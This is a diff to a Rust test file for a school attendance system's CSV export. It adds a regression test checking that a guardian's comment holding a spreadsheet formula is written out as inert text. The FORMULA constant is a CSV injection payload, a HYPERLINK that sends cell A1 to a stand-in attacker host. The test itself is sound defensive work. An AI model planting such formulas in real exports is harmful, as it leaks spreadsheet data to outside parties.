@@ -509,6 +509,19 @@ async fn csv_people(f: &Fixture) -> (Vec<Occurrence>, String) {
                 notify: vec![],
             },
         ),
+        // A guardian's comment that a spreadsheet would run as a formula (issue 17).
+        (
+            attendance("eleve90002"),
+            A::DeclareJustification {
+                student: "eleve90002".into(),
+                justification: "j-90002".into(),
+                from: lessons[1].date,
+                to: lessons[1].date,
+                reason: "MAL".into(),
+                comment: FORMULA.into(),
+                by: "resp90002".into(),
+            },
+        ),
         (
             attendance("eleve90003"),
             record("eleve90003", &lessons[0], Status::Absent),
@@ -620,6 +633,9 @@ fn kind_of(status: &Status) -> (&'static str, String) {
     }
 }
 
+/// A formula as a CSV injection attack writes it (OWASP "CSV Injection").
+const FORMULA: &str = "=HYPERLINK(\"http://attaquant.example/?\"&A1,\"Certificat\")";
+
 async fn csv_reads_back(kind: BackendKind) {
     let f = fixture(kind).await;
     let (lessons, title) = csv_people(&f).await;
@@ -689,8 +705,11 @@ async fn csv_reads_back(kind: BackendKind) {
         ("late", "7")
     );
     assert_eq!(zoe["corrected_from"], "absent");
+    // Written as text: the spreadsheet shows it and never runs it.
+    assert_eq!(zoe["comment"], format!("'{FORMULA}"));
     assert_eq!(zoe["justified"], "no");
-    assert_eq!(zoe["cpe_decision"], "");
+    // Declared by the guardian, not decided yet.
+    assert_eq!(zoe["cpe_decision"], "pending");
     let erased = by("eleve90003");
     assert_eq!(
         (erased["last_name"].as_str(), erased["first_name"].as_str()),
